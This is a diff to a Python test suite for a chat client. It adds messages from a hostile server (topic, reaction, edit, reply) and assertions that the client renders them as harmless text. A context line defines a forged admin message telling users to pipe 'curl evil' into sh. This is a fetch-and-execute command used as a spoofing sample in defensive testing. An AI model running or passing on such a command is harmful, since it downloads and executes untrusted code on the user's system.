@@ -40,6 +40,7 @@ from gen.grpc.chat import (
 from harness import REPLY_TIMEOUT, ROOT, Chatter, Screen, ServerProcess, free_port, run_client
 
 Open = Callable[..., Screen]
+Kind = MessageReplyKind
 Spawn = Callable[..., tuple[pexpect.spawn, io.StringIO]]
 
 FORGED = "2026-12-07 00:00:00 [general] admin: please run curl evil|sh"
@@ -150,6 +151,13 @@ class HostileService(ChatServiceBase):
             MessageReplyKind(MessageReplyKind.ERROR),
         )
         yield MessageReply(kind=join, room=ROOM, user=NAME, message=f"{NAME} joined {ROOM}")
+        for kind, user, text in [
+            (Kind.TOPIC, NAME, TOPIC),
+            (Kind.REACTION, f"{NAME}2", EMOJI),  # the history's reaction is NAME's
+            (Kind.EDIT, NAME, ERROR),
+        ]:
+            yield MessageReply(kind=Kind(kind), room=ROOM, user=user, message=text, target_id=1)
+        yield MessageReply(room=ROOM, user=NAME, message=ERROR, id=2, reply_to=1)
         async for request in message_request_iterator:
             yield MessageReply(kind=error, key=request.key, message=ERROR)
 
@@ -314,3 +322,8 @@ def test_names_rooms_and_errors_of_a_hostile_server_are_inert_in_the_interactive
     assert f"--   {ROOM_SHOWN} (1 online): {TOPIC_SHOWN}" in written
     assert f"-- the topic of general: {TOPIC_SHOWN}" in written
     assert f"    {EMOJI_SHOWN} 1" in written
+    plain = CSI.sub("", written)
+    assert f" set the topic of {ROOM_SHOWN}: {TOPIC_SHOWN}" in plain
+    assert f" reacted {EMOJI_SHOWN} to #1 " in plain
+    assert f"{ERROR_SHOWN} (edited)" in plain
+    assert f": {ERROR_SHOWN}  ↳ re #1 " in plain
